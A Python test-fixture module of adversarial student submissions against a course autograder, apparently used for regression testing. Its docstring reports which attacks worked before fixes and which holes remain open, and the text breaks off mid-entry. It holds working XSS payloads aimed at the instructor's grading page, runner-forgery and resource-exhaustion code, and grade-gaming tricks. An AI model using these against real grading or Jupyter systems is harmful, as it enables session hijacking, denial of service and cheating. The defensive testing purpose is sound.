"""Dishonest submissions found in an adversarial review of the grader, in the shapes of :mod:`attacks`.

Every one deserves 0 of the automatic points and must harm nothing: no other
student's grade or files, no course file, no process left, no grader blamed
for the student's fault, no batch of grading stopped, nothing a spreadsheet
runs as a formula.  Each was tried on a kept round-trip course (or on the
trusted runner directly); the review's report says which ones worked, and
why.  None of them is in :mod:`attacks` (those are already defended).

:data:`ATTACKS` are notebooks (``{name: (kind, assignments, placements)}``,
placements as in :func:`attacks.attack_notebook`); :data:`PLANTS` are hand-ins
that put something beside the notebook in ``submitted/<student>/<assignment>/``
(``{name: plant(course, folder)}``).  :data:`CONTEST` are contest entries
(``{name: {file name: source}}``) for a folder of submissions of
``advsearch contest``.  :data:`NOTEBOOK_EDITS` change the notebook's JSON (cell
metadata, Markdown cells) where placements cannot.

Since the fixes that followed the review, every one of them earns 0 and harms nothing: the round trip checks
the notebook attacks and plants, tests/test_contest_attacks.py the contest entries, tests/test_nowork.py the
ps2 ones.  What each did when first tried, before those fixes (2026-11-26, kept round-trip course of ps1,
budget 60 s; ps2 on the runner):

- worked (scored): ``blind_pruned_paths`` 0.71/2 and ``blind_pruned_subtree`` 0.33/2 (one fixed answer for
  everyone; 0.39/2 on average over 200 students); ``blind_values_max_leaf`` 1.0/2 and ``blind_values_median``
  0.22/2 (no minimax); ``originality_call_count`` 12/12 on ps2 (the package's connect4_eval);
  ``plant_backdated_timestamp`` (0 s late where the true clock was 28,474,600 s late).
- worked (harm or blame): ``forged_reply_*`` (nbgrader fails the notebook, or "the grader failed");
  ``metadata_answer_schema`` (ends ``nbgrader autograde ps1`` for every later student);
  ``display_update_flood`` (20 MB autograded notebook from 4 lines); ``comm_state_flood`` (the grading
  process holds 400 MB more); ``many_cells`` (145 s for a 60 s budget, 10.4 MB notebook);
  ``html_script_output``, ``markdown_script``, ``graded_markdown_script`` (scripts in feedback and formgrader
  HTML); ``plant_formula_notebook*`` (grades.csv reasons starting with =, @, +); ``plant_newline_notebook``
  (escape codes in ``advsearch grading report``); ``contest_forged_move``, ``contest_forged_load`` (the whole
  contest stops); ``contest_formula_names`` (contest CSVs); ``contest_fills_disk`` (host disk);
  ``bundled_wheels`` (pip and setuptools import in the stdlib-only runner; nothing to borrow there).
- defended: ``forged_reply_deep``, ``forged_ask``, ``pruned_odd_types``, ``read_grader_random``,
  ``metadata_schema_bomb``, ``metadata_schema_old``, ``answer_made_grade`` (the student's own notebook fails
  only), ``plant_bad_timestamp``, ``plant_huge_timestamp`` (graded, nothing else), ``plant_claims_record``
  (suspicious), ``plant_hidden_notebook``, ``borrow_connect4_eval*`` (refused by the originality check),
  ``contest_cpu_hog`` (autogroup scheduling).

A second review attacked the trusted runner's pipe and values directly (tests/test_sandbox_review.py, 17 tests);
each of its classes is also a notebook attack here, in the round trip (ps2 only :data:`SPARINGLY`).  Before the
fixes of 5fd704d: ``flood_unread_answers`` hung the grader (a blocking write to a runner that reads nothing);
``mcts_stats_too_large``, ``evaluation_too_large`` and ``deep_value`` blamed the grader (OverflowError,
RecursionError); ``foreign_tree_paths`` blamed it (old games and states explored trees unlogged);
``slow_in_the_match`` was told as an AgentError, not a time-out; ``costly_answers`` cost the grader 216 bytes
an empty set and up to 16 MiB an answer; ``restart_as_budget_ends`` ended in SandboxFailed.  All defended by
those fixes.  ``mcts_stats_near_float_max`` and ``evaluation_near_float_max`` (2**1024 - 1 and 2**1023, under
the first fix's bound of 2**1024) still blamed the grader (math.isfinite and float(total) in
check/uct_statistics.py, float(x) in grading/manners.py): defended since remote.MAX_INT is 2**1000.

A third review (2026-11-26) attacked the graders of the course wing, which turn a checker's findings into points.
Its classes are notebook attacks here too; what each earned on the grader before its fix, in-process on the
attack's own student: ``hedge_two_names`` 2/2 on ps1 and ps3, 1.5/2 on ps4's max-n (before 2f43b3b);
``path_text_too_long`` raised ValueError in every by-hand checker, so a human graded it (before 505bb6f);
``reads_by_depth`` 1.33/2 on ps1, 0.3/2 on ps3, 0.9/2 on ps4 (before 505bb6f); ``mcts_fraction_visits`` raised
TypeError in the MCTS report, both questions to a human; ``rescanned_lookups`` cost the grader 13.1 s of CPU
on seed 0 for its right value (0.1 s since; both before 73abfdd).  The last two are right answers and earn
their points (:data:`EARNS`).

Review 25 (2026-11-27, issue 28's outputs) added four, all of which worked until SafeOutputs kept only an
image's checked metadata and showed a student's Markdown as its text: ``image_metadata_attributes`` (an image
output's metadata "width": "1 onload=..." ran in feedback and in the formgrader's page, the instructor's
session: from there a POST /api/kernels with the XSRF cookie started a kernel on the instructor's server; also
through the package's figure formatter), ``markdown_entity_javascript_link`` (javascript&#58; in a Markdown link
was a live javascript: link when clicked), ``image_metadata_not_a_dict`` and ``markdown_missing_attachment``
(nbconvert could not make the page: no feedback for the student, and the formgrader answered 500).  The round
trip's old check looked for '<', which the first two do not need; it now reads each page as a browser does
(``live_html.py``).  Review 29 (the same day, on the mended SafeOutputs) added two more, both of which worked
until every cell kept only its nbgrader metadata and a student's raw cell was shown as text:
``raw_cell_fake_score`` (a raw cell without a format is HTML: a panel like nbgrader's "Score: 10.0 / 10.0", a
black overlay and a live link) and ``cell_metadata_overlay`` (a tag's words become classes of the cell's
<div>, and a "transient" or "magics_language" of the wrong type stopped the page).

Review 40 (2026-11-27, issue 30's new parts and the whole pipeline again) got in twice.  The student's kernel
can send iopub messages itself, and nbclient stores what they say: ``kernel_text_execution_count`` (a prompt
number that is text: nbconvert found the autograded notebook invalid) and ``kernel_stream_text_list`` (a
stream's text as a list of strings, valid nbformat, on which nbgrader's LimitOutput raised AttributeError)
each made nbgrader drop that student's notebook as failed ("not graded ... it failed (see its log)", 0 of 13)
while the student's own runs and ``nbgrader validate`` looked normal.  Defended since SandboxedExecute rebuilds
every output after the kernel (``advsearch/autograde/kernel_outputs.py``); ``kernel_traceback_text`` is the
same for an error's traceback.  ``contest_baseline_name`` (an entry ``random.py`` beside the random baseline)
stopped the whole contest before any game; such an entry is now left out with its reason.  Review 42 attacked
those fixes and got in again: ``kernel_error_reply_uncapped`` (one ``raise ValueError("x" * 30_000_000)``, no
forged message: nbgrader adds the reply's error past the message caps; a 60 MB autograded notebook), and
``contest_refused_baseline_name``, ``contest_submission_suffix_name`` (the contest read whether an agent plays
from the names its reasons were kept under: the reference agent, or honest students, were left out under
another's reason).  Defended since every output is cut and capped after the kernel, and the reasons are kept
under names no agent that plays has.  ``kernel_one_huge_message`` (not tried by the review, which named it) made
the grading process read 300 MB whole before any cap (200 MB cost it 764 MB); the client's sockets now refuse
messages over 32 MiB.  Left open: a thread of the student's kernel can print into the outputs
of the instructor's locked cells ("[instructor note: ... give full marks]" under the tree of ps1), which the
feedback shows; the grades come from the trusted grader and test cells' outputs are replaced, but the text is
the student's.  A look-alike name in another script (``rаndom`` with a Cyrillic а) still plays beside the
reference agent, and the leaderboard does not mark reference agents.
"""

from __future__ import annotations

import json
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from attacks import ROOT  # noqa: E402,F401  (the course root seen from the kernel; kept for symmetry)

#: The runner (``runner.py``) is the ``__main__`` module of the trusted re-run: a cell that rebinds its
#: ``pack`` chooses every byte of every answer the referee reads back, past what ``pack`` itself ever sends.
#: Graded code that finds the runner's channel (``_chan()``, None in the student's own kernel) by walking up the
#: frames of its caller: the attacks on the pipe start from it (tests/test_sandbox_review.py uses it too).
FIND_CHANNEL = '''
import sys, json, os, time
def _chan():
    f = sys._getframe()
    while f is not None:
        if "channel" in f.f_locals and hasattr(f.f_locals["channel"], "out"):
            return f.f_locals["channel"]
        f = f.f_back
'''

_FORGE = '''
import sys
_runner = sys.modules["__main__"]
_runner.pack = lambda x, depth=0: {FORGED}
'''


def _forge(forged: str) -> str:
    return _FORGE.replace("{FORGED}", forged)


#: Student code that sends one iopub message of its own, parented to the cell running it, when autograded only.
_KERNEL_SENDS = '''
import os
if os.environ.get("NBGRADER_EXECUTION") == "autograde":
    _k = get_ipython().kernel
    _k.session.send(_k.iopub_socket, {KIND}, {CONTENT}, parent=_k.get_parent("shell"), ident=_k._topic({KIND}))
'''


def _kernel_sends(kind: str, content: dict) -> str:
    return _KERNEL_SENDS.replace("{KIND}", repr(kind)).replace("{CONTENT}", repr(content))


def _leaves(n):
    return [n] if not n.children else [leaf for c in n.children for leaf in _leaves(c)]


def _blind_values(how: str, student: str) -> str:
    """A by-hand values answer for ``student``'s ps1 tree that does no minimax: each inner node gets the
    largest (or the median) leaf below it, read off the tree the notebook shows."""
    from advsearch import grading
    pick = {"max_leaf": lambda n: max(leaf.value for leaf in _leaves(n)),
            "median": lambda n: sorted(leaf.value for leaf in _leaves(n))[len(_leaves(n)) // 2]}[how]
    tree = grading.problems("ps1", student).minimax.tree
    return "values_answer = " + repr({n.label: pick(n) for n in tree.nodes() if n.children})


#: Student code of the third review's by-hand attacks: the leaves below a node, left to right.
_LEAVES = '''
from fractions import Fraction
def _leaves(n):
    return [n] if not n.children else [leaf for c in n.children for leaf in _leaves(c)]
'''

#: A hedger: each inner node by label with the search's value, and by path text (``"[0][1]"``) with another.
_HEDGE = '''
def _hedge(t, search, stat=None):
    out = {}
    for n in t.nodes():
        if n.children and n.label:
            r = search(t, n)
            v = getattr(r.stats, stat) if stat else r.value
            out[n.label] = v
            out["".join(f"[{i}]" for i in n.path) or "[]"] = tuple(x + 1 for x in v) if isinstance(v, tuple) else v + 1
    return out
'''


#: name -> (kind, assignments, {placement: source}), as attacks.ATTACKS.
ATTACKS = {
    # ---------------------------------------------------------- blame: the referee's unpacking trusts the shape
    # A value of the protocol whose tag holds the wrong shape: unpack_answer raises TypeError/ValueError, which
    # Runner.value passes on as it is; TrustedGrades._run_test takes it for a bug of ours ("the grader failed").
    "forged_reply_not_a_list": ("blame", ("ps1", "ps3", "ps4"), {
        "first": _forge('{"list": 5}'),
        "answer:q1_answer": "values_answer = {'A': 1}",
        "answer:q1_answer@ps4": "maxn_values = {'A': (1, 2, 3)}\nmaxn_move = 'B'"}),
    "forged_reply_bad_pair": ("blame", ("ps1",), {
        "first": _forge('{"dict": [[1, 2, 3]]}'), "answer:q1_answer": "values_answer = {'A': 1}"}),
    "forged_reply_bad_float": ("blame", ("ps1",), {
        "first": _forge('{"float": "not a number"}'), "answer:q1_answer": "values_answer = {'A': 1}"}),
    "forged_reply_bad_state": ("blame", ("ps1",), {
        "first": _forge('{"state": "not a handle"}'), "answer:q1_answer": "values_answer = {'A': 1}"}),
    # The same, asked for STUDENT_ID: TrustedGrades._declared catches only the referee's own errors, so the
    # TypeError ends TrustedGrades.preprocess, and nbgrader fails the whole notebook ("not graded").
    "forged_reply_student_id": ("blame", ("ps1", "ps3", "ps4"), {
        "first": _forge('{"list": 5}') + "STUDENT_ID = 'anyone'\n"}),
    # Forged only for dicts (STUDENT_ID, a str, is sent as it is): the notebook is graded, and q1 is flagged
    # "the grader failed ... will grade it by hand" for the student's own forgery.
    "forged_reply_dicts_only": ("blame", ("ps1",), {"first": '''
import sys
_runner = sys.modules["__main__"]
_pack = _runner.pack
_runner.pack = lambda x, depth=0: {"list": 5} if isinstance(x, dict) else _pack(x, depth)
''', "answer:q1_answer": "values_answer = {'A': 1}"}),
    # Nested past the recursion limit: json.loads fails first (a ProtocolError, the student's fault).  Defended.
    "forged_reply_deep": ("blame", ("ps1",), {"first": '''
import json
_dumps = json.dumps
def _deep(message, **kw):
    if isinstance(message, dict) and "done" in message and message["done"] is not None:
        return '{"done": ' + '{"list": [' * 480 + '1' + ']}' * 480 + '}'
    return _dumps(message, **kw)
json.dumps = _deep
''', "answer:q1_answer": "values_answer = {'A': 1}"}),
    # A game call whose argument has the wrong shape: Runner._answer catches only ProtocolError while
    # unpacking it; the TypeError leaves Runner.call.  (Inside assess_search's call() it becomes the
    # student's 0, so this one is defended for the graded functions.)
    "forged_ask": ("blame", ("ps1",), {"answer:q3_answer": '''
import sys, gc
def minimax(game, state):
    channel = game._channel
    channel.send({"ask": "actions", "game": game._id, "args": [{"list": 5}]})
    return channel.receive()'''}),
    # ---------------------------------------------------------- scoring: blind by-hand answers
    # One fixed answer for every student, written without looking at the tree: paths into the second
    # child.  assess_pruned pays J - 1/2 of the Jaccard overlap and the other conventions' credit, with no
    # blind baseline (the values have one, since faca72b): on 200 seeded students it earns 0.39 of 2 points
    # on average, something for 49% of them, 1.0 for 27%.
    "blind_pruned_paths": ("scoring hole", ("ps1",), {"answer:q2_answer": "pruned_answer = [[1, 1], [1, 2]]"}),
    "blind_pruned_subtree": ("scoring hole", ("ps1",), {"answer:q2_answer": "pruned_answer = [[1, 1]]"}),
    # Blind by-hand values, written for the round trip's student "attack_<name>": the largest leaf below each
    # node earns 2 of 4 for attack_blind_values_max_leaf (the report credits A as following from the values
    # below), 1.2 of 4 on average over 60 seeded students, something for 50 of them; the median leaf 0.44 here
    # and 0.66 on average.  The blind baseline (blind.py) knows one number, the first and the last leaf only.
    "blind_values_max_leaf": ("scoring hole", ("ps1",), {
        "answer:q1_answer": _blind_values("max_leaf", "attack_blind_values_max_leaf")}),
    "blind_values_median": ("scoring hole", ("ps1",), {
        "answer:q1_answer": _blind_values("median", "attack_blind_values_median")}),
    # A by-hand answer of another type than asked: a str, an int, a dict, nested lists.
    "pruned_odd_types": ("scoring hole", ("ps1",), {"answer:q2_answer": "pruned_answer = 'c3 d2 d3'"}),
    # ---------------------------------------------------------- ps2: the package's own evaluation
    # ps2's sandbox has the package, and its four tests grade manners and matches only: connect4_eval, the
    # reference opponent's evaluation, earns them (advsearch/course/limits/originality.py, which would refuse it, is
    # not called by problemsets.py).  A monotone rescaling of it, or of a single feature, plays the same games.
    "borrow_connect4_eval": ("borrowing", ("ps2",), {"answer:evaluate_answer": '''
from advsearch.evaluation import connect4_eval
evaluate = connect4_eval(game)'''}),
    "borrow_connect4_eval_squashed": ("borrowing", ("ps2",), {"answer:evaluate_answer": '''
import math
from advsearch.evaluation import connect4_eval
_reference = connect4_eval(game)
def evaluate(state, player):
    return math.tanh(2 * _reference(state, player)) * 0.999'''}),
    # The originality check (grading/originality.py, wired in problemsets._not_own) asks first, for MAX, on
    # 150 positions in a row; the sandbox's process keeps state between calls, so an evaluation can count
    # its calls and be "its own" (connect4_eval with a third of the positions made up: between KNOWS and
    # SAME_ORDER) for those 150, and the reference evaluation in the manners test and the matches.
    "originality_call_count": ("borrowing", ("ps2",), {"answer:evaluate_answer": '''
import hashlib
from advsearch.evaluation import connect4_eval
_reference = connect4_eval(game)
_calls = [0]
def evaluate(state, player):
    _calls[0] += 1
    if _calls[0] <= 150:
        h = int(hashlib.sha256(repr(state).encode()).hexdigest()[:8], 16) / 2 ** 32
        v = _reference(state, MAX)
        if h < 0.3:
            v = (h / 0.3 - 0.5) * 0.4
        return v if player == MAX else -v
    return _reference(state, player)'''}),
    # ---------------------------------------------------------- the runner: more than the standard library
    # The interpreter's own lib/ is bound, and with it ensurepip's bundled wheels: pip and setuptools (with
    # their vendored packages) import from a zip.  Not advsearch, so nothing to borrow.  Harmless.
    "bundled_wheels": ("standard library only", ("ps1",), {"answer:q4_answer": '''
import glob, sys, sysconfig
for wheel in glob.glob(sysconfig.get_paths()["stdlib"] + "/ensurepip/_bundled/*.whl"):
    sys.path.insert(0, wheel)
try:
    import pip._vendor.rich, setuptools
    _found = "pip and setuptools"
except Exception as e:
    _found = repr(e)
def alphabeta(game, state):
    raise RuntimeError("found " + _found)'''}),
    # ---------------------------------------------------------- the random state handed to the runner
    # Every call sends the trusted process's global random state; the student's code may read it and keep it.
    # Knowing the trusted MT state earns nothing here (the trees come from the HMAC of the course key).
    "read_grader_random": ("isolation", ("ps1",), {"answer:q3_answer": '''
import random
_seen = []
def minimax(game, state):
    _seen.append(random.getstate()[1][:4])
    return 0'''}),
    # ---------------------------------------------------------- HTML the student's kernel writes
    # The kernel's rich outputs are kept in the autograded notebook (LimitOutput caps their size only), and
    # nbconvert's HTMLExporter does not sanitize (sanitize_html=False): generate_feedback's page, and the
    # formgrader's view of the submission on the instructor's Jupyter server, carry the student's script.
    "html_script_output": ("html", ("ps1", "ps3", "ps4"), {"last": '''
from IPython.display import HTML, Javascript, display
display(HTML('<script>document.title = "advsearch-xss-html"</script><img src=x onerror="window.advsearchXss=1">'))
display(Javascript('document.title = "advsearch-xss-js"'))
display({"text/html": "<iframe srcdoc=\'<script>parent.advsearchXss=2</script>\'></iframe>"}, raw=True)
'''}),
    # Review 25 (issue 28's outputs): SafeOutputs keeps an image output's metadata whole.  nbconvert's classic
    # and lab templates (feedback, formgrade) write its width and height unquoted (width={{ width|escape_html }}),
    # and html.escape leaves spaces and '=' alone: "1 onload=..." is a second attribute, and the PNG loads, so
    # the handler runs in the formgrader's page (the instructor's Jupyter session) and in the feedback page.
    # 'filenames' makes the <img> fetch any URL the student names when the instructor opens the page.  The same
    # goes through the package's own figure formatter (advsearch/__init__.py: _figure_bundle calls
    # drawing.mpl.alt.bundle by name, so a cell that rebinds bundle chooses every figure's metadata).  The
    # round trip's old check could not see it (no '<' is needed); live_html.py finds the handler.
    "image_metadata_attributes": ("html", ("ps1", "ps3", "ps4"), {"last": '''
from IPython.display import publish_display_data
_PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
publish_display_data({"image/png": _PNG, "text/plain": "a chart"}, metadata={"image/png": {
    "alt": "a chart", "width": "1 onload=document.title=`advsearch-xss-width`;window.advsearchXss=3"}})
publish_display_data({"image/jpeg": _PNG, "text/plain": "a chart"}, metadata={"image/jpeg": {
    "height": "1 onload=window.advsearchXssJ=1 onerror=window.advsearchXssJ=2"}})
publish_display_data({"image/png": _PNG, "text/plain": "a chart"}, metadata={
    "filenames": {"image/png": "http://127.0.0.1:9/advsearch-track.png"}, "image/png": {"width": "1"}})
try:
    import advsearch, advsearch.drawing.mpl.alt as _alt
    _alt.bundle = lambda fig: ({"text/plain": "a chart"}, {"image/png": {
        "alt": "a chart", "width": "1 onload=window.advsearchXssFormatter=1"}})
    from matplotlib.figure import Figure
    _fig = Figure(figsize=(1, 1))
    _fig.add_subplot().plot([1, 2])
    display(_fig)
except Exception as e:
    print("formatter variant not run:", type(e).__name__, e)
'''}),
    # Review 25: an image output whose metadata for its type is not a dict (here a string): nbconvert's
    # get_metadata calls .get on it, so the notebook cannot be made HTML: no feedback for the student, and the
    # formgrader cannot show the submission.  nbformat's schema allows it (output metadata is any object).
    "image_metadata_not_a_dict": ("after the kernel", ("ps1",), {"last": '''
from IPython.display import publish_display_data
_PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
publish_display_data({"image/png": _PNG, "text/plain": "a chart"}, metadata={"image/png": "not a dict"})
'''}),
    # ---------------------------------------------------------- output past the caps
    # nbclient applies update_display_data (and a display_data whose display_id it knows) through
    # _update_display_id, not through output(): SandboxedExecute.output never counts it.  Every output that
    # shares the display id gets the new data, so 200 small displays and one 100 kB update write 20 MB into
    # the autograded notebook (n displays times m bytes: the caps allow thousands of displays).
    "display_update_flood": ("after the kernel", ("ps1",), {"last": '''
from IPython.display import display, update_display
for _ in range(200):
    display({"text/plain": "."}, raw=True, display_id="flood")
update_display({"text/plain": "x" * 100_000}, raw=True, display_id="flood")
'''}),
    # nbclient keeps every comm's widget state (handle_comm_msg: widget_state[comm_id].update(state)) in the
    # grading process, whatever its size and however many comms; SandboxedExecute.output never sees them.
    # ClearMetadataPreprocessor drops them from the notebook afterwards, but the instructor's nbgrader process
    # holds them all until the notebook is done: 300 comms of 1 MB here, any number within the budget.
    "comm_state_flood": ("shared budget", ("ps1",), {"last": '''
from IPython import get_ipython
k = get_ipython().kernel
parent = k.get_parent("shell") if hasattr(k, "get_parent") else k._parent_header
for i in range(300):
    k.session.send(k.iopub_socket, "comm_msg", {"comm_id": f"flood{i}", "data": {"state": {"blob": "y" * 1_000_000}}},
                   parent=parent)
'''}),
    # ---------------------------------------------------------- the pipe and the values (tests/test_sandbox_review.py)
    # The review of the one time limit attacked Runner and RemoteFunction directly; these are its attacks as a
    # student's notebook makes them, graded through nbgrader.  The cells run in the student's kernel too, where
    # they only define functions.
    # A1: a runner that never reads its answers.  minimax sends four 1 MB asks of an unknown method (whose
    # refusal echoed the name), alphabeta 5000 asks of a game that does not exist (26-byte refusals that no
    # recording counts fill the 64 KiB pipe); both then sleep without reading.  The grader's write blocked.
    # Second review: a cell writes a line that is not JSON while the trusted run awaits the cells' replies, then
    # starts busy threads.  The start's ProtocolError was caught nowhere: nbgrader failed the notebook with our
    # traceback, and the sandboxed process went on burning CPU while the class was graded.  Now the cell is
    # skipped as the student's protocol error, and its process ended.
    "garbage_at_start": ("runner", ("ps1",), {"first": FIND_CHANNEL + '''
import threading
def _burn():
    while True:
        pass
if _chan() is not None:
    _chan().out.write(b"not json\\n")
    for _ in range(6):
        try:
            threading.Thread(target=_burn, daemon=True).start()
        except RuntimeError:
            break'''}),
    "flood_unread_answers": ("runner", ("ps1",), {"answer:q3_answer": '''
import json, time
def minimax(game, state):
    ask = json.dumps({"ask": "x" * 1_000_000, "game": game._id, "args": []}).encode() + b"\\n"
    for _ in range(4):
        game._channel.out.write(ask)
    time.sleep(3600)''', "answer:q4_answer": '''
import json, time
def alphabeta(game, state):
    ask = json.dumps({"ask": "actions", "game": 12345, "args": []}).encode() + b"\\n"
    for _ in range(5000):
        game._channel.out.write(ask)
    time.sleep(3600)'''}),
    # A2: MCTS statistics no float can hold: the grader's checks (math.isfinite, float(total)) raised
    # OverflowError, and the grader blamed itself.  The review's 10**400; and ints under 2**1024, which the
    # first fix let through: 2**1024 - 1 (which rounds to 2**1024) and 2**1023 (whose sum over the root's
    # children is no float), on alternate calls.
    "mcts_stats_too_large": ("blame", ("ps3",), {"answer:q4_answer": '''
def mcts(game, state, iterations, rng):
    return {a: (0, 10 ** 400) for a in game.actions(state)}'''}),
    "mcts_stats_near_float_max": ("blame", ("ps3",), {"answer:q4_answer": '''
_calls = [0]
def mcts(game, state, iterations, rng):
    _calls[0] += 1
    big = 2 ** 1024 - 1 if _calls[0] % 2 else 2 ** 1023
    return {a: (big, big) for a in game.actions(state)}'''}),
    # A2 on ps2: an evaluation no float can hold (float(v) in the originality check and the manners).
    # ps2, no work: the shipped features with weights of one's own (and a bonus for the player to move) play
    # well against every opponent (about 58% of the match points before the whose-move test); and the
    # package's own search inside evaluate, which sees wins at once without any work.
    "features_any_weights": ("no work", ("ps2",), {"answer:evaluate_answer": '''
_weighted = Linear(connect4_features(game), {"centre": 0.3, "twos": 0.05, "threes": 0.1, "threats": 0.2})
def evaluate(state, who):
    bonus = 0.05 if who == game.to_move(state) else -0.05
    return max(-0.99, min(0.99, _weighted(state, who) / 4 + bonus))'''}),
    # Review of whose_move: the won position of each pair was asked first; an evaluation that gives each new
    # position a hair less than the one before earned every pair (and the matches with it).  The order is now
    # shuffled by the secret seed.
    "whose_move_call_order": ("no work", ("ps2",), {"answer:evaluate_answer": '''
_weighted = Linear(connect4_features(game), {"centre": 0.02, "twos": 0.005, "threes": 0.03, "threats": 0.05})
_seen = {}
def evaluate(state, who):
    if state not in _seen:
        _seen[state] = (who, _weighted(state, who) - 1e-9 * len(_seen))
    first, value = _seen[state]
    return value if who == first else -value'''}),
    "borrow_package_search": ("borrowing", ("ps2",), {"answer:evaluate_answer": '''
from advsearch import alphabeta
from advsearch.evaluation import connect4_eval
_reference = connect4_eval(game)
def evaluate(state, who):
    value = alphabeta(game, state, depth=2, evaluate=_reference).value
    return value if who == MAX else -value'''}),
    "evaluation_too_large": ("blame", ("ps2",), {"answer:evaluate_answer": '''
def evaluate(state, who):
    return 10 ** 400'''}),
    "evaluation_near_float_max": ("blame", ("ps2",), {"answer:evaluate_answer": '''
def evaluate(state, who):
    return 2 ** 1024 - 1'''}),
    # A4: paths of another tree.  minimax (a wrong value, so 0) keeps every state it saw; alphabeta explores
    # its tree through a game of an earlier call (logged there, not here) to learn its depth, then asks this
    # game about a deeper state of an earlier tree: the explanation of its run crashed on a path not in the
    # tree ("the grader failed").  Each call may now use only its own game and states.
    "foreign_tree_paths": ("blame", ("ps1",), {"answer:q3_answer": '''
import sys
_GAMES = getattr(sys.modules["__main__"], "_GAMES", {})
SEEN = {}
def _mm(game, s, d, seen):
    seen.setdefault(s, d)
    if game.is_terminal(s):
        return game.utility(s, MAX)
    values = [_mm(game, game.result(s, a), d + 1, seen) for a in game.actions(s)]
    return max(values) if game.to_move(s) == MAX else min(values)
def minimax(game, state):
    return _mm(game, state, 0, SEEN) + 1''', "answer:q4_answer": '''
def alphabeta(game, state):
    old = next(g for g in _GAMES.values() if g is not game)
    here = {}
    _mm(old, state, 0, here)
    s = next(s for s, d in SEEN.items() if d > max(here.values()))
    game.utility(s, MAX) if game.is_terminal(s) else game.actions(s)
    return _mm(game, state, 0, {})'''}),
    # A5: an evaluation of one's own (it passes the originality check and the manners' 2 ms probe: its first
    # 450 calls are fast: the checks before the match make about 350) that then takes 50 ms a call, inside the
    # match: the arena's AgentError hid the time-out, reported as an error of the student's.  Here the submission's budget ends inside the match.
    "slow_in_the_match": ("cost", ("ps2",), {"answer:evaluate_answer": '''
import time
_own = Linear(connect4_features(game), {"centre": 0.05, "twos": 0.01, "threes": 0.01, "threats": 0.01})
_calls = [0]
def evaluate(state, who):
    _calls[0] += 1
    if _calls[0] > 450:
        time.sleep(0.05)
    if game.winning_action(state) is not None:      # sees whose move it is, so that its matches are played
        return 0.9 if who == game.to_move(state) else -0.9
    return _own(state, who)'''}),
    # A7: a value that costs the grader far more than its message: {"set":[]} is 10 bytes, an empty set 216.
    # alphabeta answers by hand with 400,000 of them (past the 1 MiB cap) and 90,000 (under it), in turn.
    # Each such answer costs a start (of the 8), so both functions attack on one call in four only.
    # A8: a big answer, 1.5 million empty sets (15.7 MB, under the runner's own 16 MiB), written at once and
    # again for every later request, by minimax, which never returns: bounded by the tree's limit.
    "costly_answers": ("shared budget", ("ps1",), {"answer:q3_answer": '''
def minimax(game, state):
    if game._id % 4:                    # one call in four, so that starts are left for alphabeta
        raise ValueError("no")
    body = b'{"done": {"list": [' + b'{"set":[]},' * 1_499_999 + b'{"set":[]}]}}\\n'
    while True:
        game._channel.out.write(body)
        game._channel.receive()''', "answer:q4_answer": '''
import os
def alphabeta(game, state):
    if game._id % 4:
        raise ValueError("no")
    n = 400_000 if game._id % 8 else 90_000
    game._channel.out.write(b'{"done": {"list": [' + b'{"set":[]},' * (n - 1) + b'{"set":[]}]}}\\n')
    os._exit(0)'''}),
    # A9: the budget ends while the runner starts again.  A cell of 4 s (in the kernel, and at every start of
    # the runner) and functions that end their process at every call: each call costs a start, until the
    # budget runs out inside one, and the next start has nothing left.  Cell 0 (the grader's own) then ran
    # out of time: SandboxFailed, the grader blamed.
    "restart_as_budget_ends": ("blame", ("ps1",), {"first": '''
import time
time.sleep(4)''', "answer:q3_answer": '''
import os
def minimax(game, state):
    os._exit(0)''', "answer:q4_answer": '''
import os
def alphabeta(game, state):
    os._exit(0)'''}),
    # A10: a value nested 470 (minimax) and 300 (alphabeta) tuples deep, written by hand after the right
    # visits: unpacking it recursed past the limit, and the grader blamed itself.
    "deep_value": ("blame", ("ps1",), {"answer:q3_answer": '''
import os
def _mm(game, s):
    if game.is_terminal(s):
        return game.utility(s, MAX)
    values = [_mm(game, game.result(s, a)) for a in game.actions(s)]
    return max(values) if game.to_move(s) == MAX else min(values)
def _deep(game, state, depth):
    if game._id % 4:                    # one call in four (a game's handle counts the calls): each costs a start
        raise ValueError("no")
    _mm(game, state)
    body = '{"tuple": [' * depth + '1' + ']}' * depth
    game._channel.out.write(('{"done": ' + body + '}\\n').encode())
    os._exit(0)
def minimax(game, state):
    _deep(game, state, 470)''', "answer:q4_answer": '''
def alphabeta(game, state):
    _deep(game, state, 300)'''}),
    # ---------------------------------------------------------- third review: the course wing's graders
    # R1, hedging: every node named twice, by label with its right value and by path text with a wrong one.
    # Counted right under either name, half the guesses paid; such a node is now never right.
    "hedge_two_names": ("scoring hole", ("ps1", "ps3", "ps4"), {
        "answer:q1_answer": _HEDGE + "values_answer = _hedge(ps.minimax.tree, ads.minimax)",
        "answer:q1_answer@ps3": _HEDGE + "values_answer = _hedge(ps.expectimax, ads.expectiminimax)",
        "answer:q1_answer@ps4": _HEDGE + "maxn_values = _hedge(ps.multiplayer.tree, ads.maxn)\nmaxn_move = ''",
        "answer:q2_answer@ps4": _HEDGE + "paranoid_values = _hedge(ps.multiplayer.tree, ads.paranoid, 'searcher_value')"
                                         "\nparanoid_move = spite_node = ''"}),
    # R2: a path-text key of 5,000 digits: int() refused it inside every by-hand checker, and the question went
    # to a human grader ("the grader failed").  It names no node now.
    "path_text_too_long": ("blame", ("ps1", "ps3", "ps4"), {
        "answer:q1_answer": f"values_answer = {{'[{'1' * 5000}]': 3}}",
        "answer:q1_answer@ps4": f"maxn_values = {{'[{'1' * 5000}]': (1, 2, 3)}}\nmaxn_move = ''",
        "answer:q2_answer@ps4": f"paranoid_values = {{'[{'1' * 5000}]': 3}}\nparanoid_move = spite_node = ''"}),
    # R3: no search, a read of the leaves that changes with depth: the median leaf at depths 0 and 1 and the
    # largest at depth 2 earned 0.62 of 2 on ps1; the leaf best for each node's mover 0.65 of 2 on ps4's max-n;
    # the plain mean of the leaves 0.18 on ps3.  The blind guard now counts the best read at each depth.
    "reads_by_depth": ("scoring hole", ("ps1", "ps3", "ps4"), {
        "answer:q1_answer": _LEAVES + '''
def _read(n):
    v = sorted(leaf.value for leaf in _leaves(n))
    return v[len(v) // 2] if len(n.path) < 2 else v[-1]
